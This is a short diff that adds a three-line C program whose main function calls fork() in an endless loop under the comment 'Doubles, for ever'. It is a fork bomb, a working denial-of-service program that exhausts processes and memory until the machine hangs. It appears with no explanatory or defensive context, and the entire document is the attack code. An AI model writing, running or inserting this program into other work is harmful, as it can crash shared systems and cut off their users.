@@ -1,0 +1,3 @@
+/* Doubles, for ever. */
+#include <unistd.h>
+int main(void) { for (;;) fork(); }
